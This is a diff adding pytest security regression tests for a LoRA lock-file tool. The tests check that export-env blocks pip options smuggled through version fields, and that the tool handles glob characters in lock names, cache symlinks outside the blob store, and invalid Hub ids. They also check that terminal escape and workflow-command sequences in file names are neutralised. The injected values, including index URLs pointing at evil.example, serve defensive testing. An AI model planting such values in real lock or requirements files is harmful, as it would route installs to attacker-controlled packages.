@@ -1,0 +1,151 @@
+"""Locks, names and caches crafted to mislead: the output stays safe, the lock stays honest, the error stays clear.
+
+Each test is a reproduced problem: a pip option smuggled through ``export-env``, Hub adapters in ``diff``, glob
+characters in a lock name, cache symlinks pointing outside the repo's blobs, Hub ids huggingface_hub refuses, and
+terminal or workflow-command sequences in file names.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+
+from lora_lock._cli import main
+from lora_lock.errors import SourceError
+from lora_lock.generation import generate
+from lora_lock.report import printable
+from lora_lock.report.markdown import _cell
+from lora_lock.sources.hub import HubFile, HubSnapshot, parse_spec
+
+if sys.version_info >= (3, 11):
+    import tomllib
+else:  # pragma: no cover
+    import tomli as tomllib
+
+
+def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    rc = main(list(argv))
+    out, err = capsys.readouterr()
+    assert "Traceback" not in out + err and "internal error" not in out + err
+    return rc, out, err
+
+
+@pytest.fixture
+def repo(tmp_path: Path, tiny_llama: Path, tiny_llama_adapter: Path) -> Path:
+    root = tmp_path / "repo"
+    shutil.copytree(tiny_llama, root / "base")
+    shutil.copytree(tiny_llama_adapter, root / "adapter")
+    result = generate([root / "adapter"], root / "base", root / "lora.lock", probe=False)
+    assert result.written
+    return root
+
+
+def edited(repo: Path, name: str, change: Any) -> Path:
+    doc = tomllib.loads((repo / "lora.lock").read_text(encoding="utf-8"))
+    change(doc)
+    path = repo / name
+    path.write_text(tomli_w.dumps(doc), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("tokenizers", "0.23.3\n--index-url http://evil.example/simple"),
+        ("evil @ https://evil.example/x.whl ; python_version>'0' #", "1"),
+        ("torch", "2.13.0 --extra-index-url=http://evil.example"),
+    ],
+)
+def test_export_env_never_writes_what_pip_would_obey(
+    repo: Path, capsys: pytest.CaptureFixture[str], key: str, value: str
+) -> None:
+    lock = edited(repo, "evil.lock", lambda d: d["environment"]["versions"].__setitem__(key, value))
+    rc, out, err = cli(capsys, "export-env", str(lock))
+    assert rc == 2
+    assert "evil.example" not in out
+    assert "environment/versions" in err
+    rc, out, _ = cli(capsys, "export-env", str(repo / "lora.lock"))
+    assert rc == 0 and "torch==" in out
+
+
+def test_diff_names_a_hub_adapter_added_or_removed(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    def add(doc: dict[str, Any]) -> None:
+        hub = dict(doc["adapter"][0], name="remote", repo="org/remote-adapter", revision="a" * 40)
+        del hub["source"]
+        doc["adapter"].append(hub)
+
+    hub_lock = edited(repo, "hub.lock", add)
+    rc, out, _ = cli(capsys, "diff", str(repo / "lora.lock"), str(hub_lock))
+    assert rc == 1 and "adapter remote added" in out
+    rc, out, _ = cli(capsys, "diff", str(repo / "lora.lock"), str(hub_lock), "--format", "json")
+    assert rc == 1 and "org/remote-adapter@" + "a" * 40 in out
+    rc, out, _ = cli(capsys, "diff", str(hub_lock), str(repo / "lora.lock"), "--format", "json")
+    assert rc == 1 and "adapter remote removed" in out
+
+
+def test_a_lock_name_with_glob_characters_leaves_other_locks_sidecars(
+    repo: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    others = [repo / "a1.lock.probe-000000000000.json", repo / "ab.lock.probe-111111111111.json"]
+    for path in others:
+        path.write_text("{}\n", encoding="utf-8")
+    rc, _, err = cli(
+        capsys, "generate", "--no-probe", "--adapter", str(repo / "adapter"), "--base", str(repo / "base"),
+        "-o", str(repo / "a[1b].lock"),
+    )  # fmt: skip
+    assert rc == 0, err
+    assert all(path.exists() for path in others)
+
+
+@pytest.mark.parametrize(
+    "spec", ["org/na..me", "org/name--x", "org/name.git", "org/name-", "o" * 97 + "/x", "org/" + "n" * 97]
+)
+def test_hub_ids_huggingface_hub_refuses_are_refused_up_front(spec: str) -> None:
+    with pytest.raises(SourceError, match="neither a local directory nor a Hub repo id"):
+        parse_spec(spec)
+
+
+def test_hub_ids_huggingface_hub_accepts_still_parse() -> None:
+    assert parse_spec("meta-llama/Llama-3.1-8B@main") == ("meta-llama/Llama-3.1-8B", "main")
+    assert parse_spec("gpt2") == ("gpt2", None)
+    assert parse_spec("org/name.v2_x") == ("org/name.v2_x", None)
+
+
+def test_a_cache_link_outside_the_repos_blobs_proves_nothing(tmp_path: Path) -> None:
+    """huggingface_hub names LFS blobs by their sha256, so a snapshot link into blobs/ names its content; a link
+    pointing elsewhere (at a file named like the locked digest) must not be trusted."""
+    data = b"weights"
+    digest = hashlib.sha256(data).hexdigest()
+    repo_dir = tmp_path / "models--org--x"
+    snapshot = repo_dir / "snapshots" / ("c" * 40)
+    (repo_dir / "blobs").mkdir(parents=True)
+    snapshot.mkdir(parents=True)
+    (repo_dir / "blobs" / digest).write_bytes(data)
+    (snapshot / "inside.safetensors").symlink_to(Path("../../blobs") / digest)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / digest).write_bytes(b"something else")
+    (snapshot / "outside.safetensors").symlink_to(elsewhere / digest)
+    files = {n: HubFile(n, None, None, None) for n in ("inside.safetensors", "outside.safetensors")}
+    snap = HubSnapshot("org/x", "c" * 40, "main", snapshot, repo_dir, files)
+
+    known = snap.known_digests(trust_cache_names=True)
+
+    assert set(known) == {"inside.safetensors"}
+    assert known["inside.safetensors"].digest == f"sha256:{digest}"
+
+
+def test_file_names_cannot_drive_a_terminal_or_a_workflow() -> None:
+    assert printable("a\x1b[2Jb\rc") == "a\\x1b[2Jb\\x0dc"
+    assert printable("x\n  ::error file=a::owned") == "x\n  :\u200b:error file=a::owned"
+    assert printable("tab\tand newline\n stay") == "tab\tand newline\n stay"
+    cell = _cell("pipe|x\r## heading [t](http://evil.example) ![i](y)")
+    assert "\r" not in cell and "\\|" in cell and "](" not in cell.replace("\\](", "")
+    assert json.dumps(cell)  # plain text
